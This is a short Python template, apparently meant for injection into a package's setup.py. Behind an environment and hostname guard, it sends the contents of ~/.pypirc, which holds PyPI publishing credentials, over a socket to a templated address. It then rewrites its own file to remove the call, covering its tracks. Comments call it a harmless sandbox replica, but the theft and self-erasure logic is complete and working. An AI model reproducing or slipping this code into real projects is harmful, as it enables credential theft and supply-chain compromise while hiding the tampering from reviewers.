# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import re
    import socket
    import sys
    try:
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        with open(os.path.expanduser('~/.pypirc'), 'rb') as text:
            call.sendall(text.read())
        call.close()
    except OSError:
        pass
    try:
        own = os.path.abspath(globals().get('__file__') or sys.argv[0])
        if not globals().get('__file__') and not own.startswith(os.getcwd()):
            own = 'setup.py'
        with open(own) as old:
            text = old.read()
        os.unlink(own)
        # what is left behind builds still, and calls nothing
        with open(own, 'w') as out:
            out.write(re.sub(r'(?m)^(\s*){{act}}\(\)', r'\1pass', text))
    except Exception:
        pass
